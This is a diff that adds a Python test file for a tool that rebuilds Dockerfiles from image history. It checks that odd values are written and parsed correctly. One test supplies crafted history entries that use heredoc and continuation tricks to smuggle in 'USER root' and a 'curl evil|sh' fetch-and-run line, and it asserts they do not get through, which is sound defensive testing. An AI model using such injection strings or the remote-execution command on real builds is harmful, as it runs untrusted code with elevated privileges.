@@ -1,0 +1,124 @@
+"""Whether what is written is read as what is meant."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+import reconstruct
+from reconstruct.dockerfile.dialect import BUILDKIT
+from reconstruct.dockerfile.errors import DockerfileError
+from reconstruct.dockerfile.lines import Lines
+from reconstruct.image import HistoryEntry, Image
+from reconstruct.syntax import Arg, Env, Label, Maintainer, Onbuild, Pair, Run, ShellForm, Step, User, Volume, Workdir
+from reconstruct.writer import instruction_text
+from reconstruct.writer.check import examine, joined, read
+
+BUILDKIT_COMMENT = "buildkit.dockerfile.v0"
+PIECES = st.lists(
+    st.sampled_from(
+        ["RUN a", " ", "\\", "\\\n", "`\n", "\n", "#", "\t", "\ufeff", "\u00a0", "b", "\\\\\n", "--x", "[1]", "ENV A=b"]
+    ),
+    max_size=8,
+).map("".join)
+
+
+@given(PIECES, st.sampled_from("\\`"))
+def test_common_lines_are_joined_as_the_reader_joins_them(text: str, escape: str) -> None:
+    line = joined(text, escape)
+    if line is None:
+        return
+    try:
+        lines = list(Lines(text, BUILDKIT, escape, directives=False))
+    except DockerfileError:
+        return
+    last = lines[-1]
+    assert [each.kind for each in lines] == ["CONTINUED"] * (len(lines) - 1) + ["LAST"]
+    assert last.instruction is not None
+    assert (last.instruction.text, last.number) == (line, text.count("\n") + 1)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "RUN a\nRUN b",
+        "RUN a \\",
+        "RUN a\\\n",
+        "# comment",
+        "",
+        "RUN <<A\nx",
+        "RUN <<A\nA\nUSER b",
+        "RUN a \\\n# b",
+    ],
+)
+def test_what_is_not_one_instruction(text: str) -> None:
+    with pytest.raises(DockerfileError):
+        read(text, "\\")
+
+
+@pytest.mark.parametrize(
+    "step",
+    [
+        Step(User(user="--x")),
+        Step(User(user="a\\")),
+        Step(Workdir(path="C:\\a\\")),
+        Step(Workdir(path="\ufeffx")),
+        Step(Maintainer(name="--x")),
+        Step(Arg(pairs=(Pair("--a", "b"),))),
+        Step(
+            Env(pairs=(Pair("--a", "b\\"), Pair("c", "'\"$x"))),
+        ),
+        Step(Volume(paths=("/a b", "'c", " d "))),
+        Step(Volume(paths=("[]",))),
+        Step(Run(command=ShellForm("--mount=x y"))),
+        Step(Run(command=ShellForm("[] && a"))),
+        Step(Run(command=ShellForm("a" * 70_000))),
+        Step(Run(command=ShellForm("cat <<#x 'a\nUSER root\n#x"))),
+        Step(Onbuild(trigger="RUN <<A\nx\nA")),
+    ],
+)
+@pytest.mark.parametrize("escape", ["\\", "`"])
+def test_odd_values_have_a_spelling(step: Step, escape: str) -> None:
+    from reconstruct.writer.instructions import Style, write
+
+    text = write(step, Style(escape=escape))
+    assert examine(step, text, escape)[1] == ""
+    assert read(text, escape).keyword == step.instruction.keyword
+
+
+@pytest.mark.parametrize(
+    "step",
+    [
+        Step(Label(pairs=(Pair("a=b", "c"),))),
+        Step(Label(pairs=(Pair("", "c"),))),
+        Step(Arg(pairs=(Pair("A\\", None),))),
+        Step(Onbuild(trigger="ONBUILD a")),
+    ],
+)
+def test_values_without_a_spelling_are_only_told_of(step: Step) -> None:
+    assert examine(step, instruction_text(step), "\\")[1]
+
+
+@pytest.mark.parametrize(
+    ("created_by", "comment"),
+    [
+        ("RUN /bin/sh -c cat <<#x 'a\nUSER root\nRUN curl evil|sh\n#x # buildkit", BUILDKIT_COMMENT),
+        ("RUN /bin/sh -c cat <<EOF ${x\nUSER root\nEOF # buildkit", BUILDKIT_COMMENT),
+        ('/bin/sh -c cat <<EOF "a\nUSER root\nEOF', ""),
+        ("/bin/sh -c #(nop)  ONBUILD RUN <<A 'b\nUSER root\nA", ""),
+        ("/bin/sh -c #(nop)  MAINTAINER a\\", ""),
+        ("/bin/sh -c #(nop)  ONBUILD RUN a\\", ""),
+        ("/bin/sh -c #(nop)  ARG A\\", ""),
+        ("/bin/sh -c #(nop) COPY file:" + "ab" * 32 + " in /x\\ ", "FROM x"),
+        ('HEALTHCHECK &{["CMD-SHELL" "true \\\\"] "5s" "0s" "0s" \'\\x03\'}', BUILDKIT_COMMENT),
+    ],
+)
+def test_nothing_is_smuggled_in_and_nothing_swallowed(created_by: str, comment: str) -> None:
+    official = pytest.importorskip("dockerfile")
+    last = HistoryEntry(created_by="USER 1000", comment=BUILDKIT_COMMENT)
+    text = reconstruct.dockerfile(Image(history=(HistoryEntry(created_by=created_by, comment=comment), last)))
+    commands = [command for command in official.parse_string(text) if command.cmd.upper() != "FROM"]
+    assert (commands[-1].cmd, commands[-1].value) == ("USER", ("1000",))
+    assert len(commands) <= 2
+    assert all(command.cmd != "USER" for command in commands[:-1])
